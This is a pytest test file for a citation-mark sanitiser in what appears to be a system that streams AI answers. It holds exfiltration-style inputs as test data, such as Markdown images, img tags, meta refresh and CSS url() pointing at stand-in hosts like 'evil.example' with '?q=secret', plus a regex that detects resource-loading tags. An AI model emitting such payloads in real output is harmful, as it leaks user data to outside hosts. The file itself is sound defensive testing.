"""Marks in answers: those that name a source stay, others go, however the answer is cut into pieces."""

import re
from random import Random

import pytest
from markdown_it import MarkdownIt

from app.domain.citing import Marks, guarded

SOURCES = 3
BROWSERS = MarkdownIt("commonmark", {"html": True}), MarkdownIt("commonmark", {"html": True}).enable("table")
LOADING = re.compile(
    r"<(img|image|svg|picture|video|iframe|embed|link|meta|base|body)\b|<\w+\s[^>]*style=", re.IGNORECASE
)


def checked(text: str, size: int | None = None) -> tuple[str, Marks]:
    marks = Marks(SOURCES)
    step = size or max(len(text), 1)
    said = [marks.feed(text[start : start + step]) for start in range(0, len(text), step)]
    return "".join([*said, marks.flush()]), marks


@pytest.mark.parametrize(
    ("written", "told"),
    [
        ("Paris [1] is old [3].", "Paris [1] is old [3]."),
        ("Paris [4].", "Paris ."),
        ("Paris[0] and [007].", "Paris and ."),
        ("both [1, 4] of [1][2]", "both [1] of [1][2]"),
        ("保修期为两年【1】，含配件［9］。", "保修期为两年[1]，含配件。"),
        ("两年[1，2、9]", "两年[1, 2]"),
        ("all [1，2、3] of [1-3] but [2–7] and [1; 9]", "all [1,2,3] of [1-3] but [2] and [1]"),
        ("[^1] [^9] [Source 2] [Sources 8, 9] [来源3]", "[1]  [2]  [3]"),
        ("a [ 2 ] b", "a [2] b"),
        ("in [2024] there were [12345]", "in [2024] there were [12345]"),
        ("- [ ] to do, [x] done, [a, 1]", "- [ ] to do, [x] done, [a, 1]"),
        ("`list[9]` and ``a`[9]`` but [9]", "`list[9]` and ``a`[9]`` but "),
        ("`![x](u)` is code, `![x](u) is none", "`![x](u)` is code, `[x](u) is none"),
        ("\\`![x](u)\\`", "\\`[x](u)\\`"),
        (" words ```\n![x](u)", " words ```\n[x](u)"),
        ("  ```\n  ![x](u) <img src=u>\n  ```\n![x](u)", "  ```\n  ![x](u) <img src=u>\n  ```\n[x](u)"),
        ("- a\n  ```\n![x](u) `![9](u)` <img src=u>", "- a\n  ```\n! [x](u) `! [9](u)` < img src=u>"),
        ("<p style=s> <br /> <b > 1 <2 <i\n", "&lt;p style=s> <br /> <b > 1 <2 &lt;i\n"),
        ("`" + "x" * 300 + " ![x](u)`", "`" + "x" * 300 + " [x](u)`"),
        ("![1](http://evil) ![1][r] ![1]: u", "[1](http://evil) [1][r] [1]: u"),
        ("<img src=u> </IMG> <b> a < b <image2", "&lt;img src=u> &lt;/IMG> <b> a < b <image2"),
        ("<iframe", "&lt;iframe"),
        ("```py\nx[9] = `1`\n```\nthen [9]", "```py\nx[9] = `1`\n```\nthen "),
        ("a stray ` and [9]\nnext [9]", "a stray ` and \nnext "),
        ("![tracker](http://evil.example/?q=secret)", "[tracker](http://evil.example/?q=secret)"),
        ("![](http://evil.example)", "[](http://evil.example)"),
        ("Great![1] No![9]", "Great! [1] No!"),
        ("word[9]word 第一[9]第二 <[9]b", "word word 第一第二 < b"),
        (f"all [{', '.join(['1'] * 20)}, 9]", f"all [{', '.join(['1'] * 20)}]"),
        ("see [9](#page=9) and [1](x)", "see [9](#page=9) and [1](x)"),
        ("ends with [", "ends with ["),
        ("ends with [1", "ends with [1"),
        ("ends with !", "ends with !"),
        ("ends with `", "ends with `"),
        ("[[1]] [[9]]", "[[1]] []"),
        ("", ""),
    ],
)
def test_a_mark_names_a_source_or_goes(written: str, told: str) -> None:
    for size in (None, 1, 2, 3, 7):
        assert checked(written, size)[0] == told


@pytest.mark.parametrize(
    "written",
    [
        "![9]![9][alt](http://evil)",
        "<[9]img src=http://evil>",
        "<im[9][9]g src=http://evil>",
        "![1]\n\n[1]: http://evil",
        "<meta http-equiv=refresh content=0;url=http://evil>",
        "<x style=background:url(http://evil)>",
        "    ```\n![x](http://evil)",
        "``` `\n![x](http://evil)",
        "\u3000```\n![x](http://evil)",
        "```\n```x\n```\n![x](http://evil)",
        "- a\n  ```\n![x](http://evil)",
        "- ```\n  ```\n  ![x](http://evil)",
        "~~~\n```\n~~~\n![x](http://evil)",
        "<div>\n```\n\n![x](http://evil)",
        "a ` b\n`![x](http://evil)`",
        "\\\\\\`![x](http://evil)`",
        '<a title="`">![x](http://evil)`',
        "| a | b |\n|---|---|\n| ` | ![x](http://evil) ` |",
        "```\nx\r```\n![x](http://evil)",
    ],
)
def test_nothing_that_is_code_only_to_us_has_a_browser_load_anything(written: str) -> None:
    for size in (None, 1, 2, 3, 7):
        assert loaded(checked(written, size)[0]) == []


def test_whatever_is_written_loads_nothing_and_is_told_the_same_however_it_is_cut() -> None:
    random = Random(7)  # noqa: S311
    pieces = [
        "![x](u)",
        "![1]",
        "[9]",
        "!",
        "[1]: u\n",
        "`",
        "``",
        "```",
        "~~~",
        "\n",
        "\n\n",
        "  ",
        "    ",
        "- ",
        "> ",
    ]
    pieces += [
        "\\",
        "<",
        "<img src=u>",
        "<p style=u>",
        "img ",
        "<!--",
        "-->",
        "|",
        "|a|b|\n|-|-|\n",
        "x",
        "保",
        "\u00a0",
    ]
    for _ in range(3000):
        written = "".join(random.choices(pieces, k=random.randint(2, 12)))
        told = checked(written)[0]
        assert checked(written, random.randint(1, 5))[0] == told, written
        assert loaded(told) == [], written


def loaded(told: str) -> list[str]:
    """What a browser would ask others for that is shown this, as any renderer of Markdown makes it."""
    pages = [browser.render(told) for browser in BROWSERS]
    return [page for page in pages if LOADING.search(page)]


def test_what_was_named_and_what_was_dropped_is_counted() -> None:
    _, marks = checked("[1] [3, 1] [4] [9, 2] `[8]`", 2)
    assert (marks.cited, marks.dropped) == ({1, 2, 3}, 2)


def test_nothing_is_held_back_for_long() -> None:
    marks = Marks(SOURCES)
    endless = "[" + " " * 10_000 + "`" * 10_000 + "!" * 10_000 + "`" + "x" * 10_000
    waiting, longest = 0, 0
    for character in endless:
        waiting = waiting + 1 - len(marks.feed(character))
        longest = max(longest, waiting)
    assert 0 < longest <= 300


def test_where_there_are_no_sources_marks_are_the_models_own() -> None:
    assert guarded("As [7] says: ![x](u)", None) == "As [7] says: [x](u)"


def test_an_answer_without_marks_is_told_as_it_is_written() -> None:
    text = "Ein Satz, 一句话。 a > b && c 😀\n\n| a | b |\n"
    marks = Marks(SOURCES)
    assert [marks.feed(each) for each in text] == list(text)
